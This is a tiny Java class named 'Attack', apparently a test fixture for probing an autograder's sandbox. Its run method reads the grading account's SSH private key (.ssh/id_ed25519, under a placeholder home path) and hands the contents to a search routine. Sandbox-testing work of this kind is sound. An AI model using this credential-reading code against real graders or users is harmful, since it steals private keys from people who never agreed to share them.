package autograd;

import java.nio.file.Files;
import java.nio.file.Path;

/** Reads a key in the home folder of the account that grades. */
final class Attack {
    static void run() throws Throwable {
        Trial.search(Files.readString(Path.of("@HOME@", ".ssh", "id_ed25519")));
    }
}
